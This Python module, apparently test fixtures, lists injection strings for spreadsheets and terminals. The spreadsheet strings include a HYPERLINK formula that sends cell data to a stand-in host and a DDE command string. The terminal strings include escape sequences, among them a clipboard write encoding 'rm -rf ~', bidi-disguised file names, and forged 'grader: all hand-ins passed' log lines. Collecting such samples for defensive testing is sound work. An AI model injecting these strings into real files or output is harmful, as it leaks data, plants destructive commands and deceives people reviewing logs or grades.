"""R65: names and texts that act in a spreadsheet, in a terminal or in a log."""

from __future__ import annotations

FORMULAS = (
    '=HYPERLINK("http:evil.example?"&A2,"click")',
    "+1+cmd|' -C calc'!A0",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "kim;=1+1",
    "kim\t=1+1",
)
"""What a spreadsheet runs, in a comma's country, a semicolon's, or where tabs divide cells."""

TERMINAL = (
    "red \x1b[31mtext\x1b[0m",
    "cleared \x1b[2J\x1b[H",
    "copied \x1b]52;c;cm0gLXJmIH4=\x07",
    "linked \x1b]8;;file:etc\x1b\\click\x1b]8;;\x1b\\",
    "titled \x1b]0;owned\x07",
    "asked \x1b[6n\x1b[c",
    "one byte \x9b31m \x9d52;c;eA==\x9c",
    "over\b\b\b\bwritten",
    "turned \u202etxt.exe\u202c",
    "apart \u2066text\u2069",
    "a line\ngrader: all hand-ins passed",
    "a start\rgrader: all hand-ins passed",
    "[link=http:evil.example]click[/link] [bold red]x",
)
"""What a terminal obeys: colours, the clipboard, links, titles, questions, turned text, lines."""
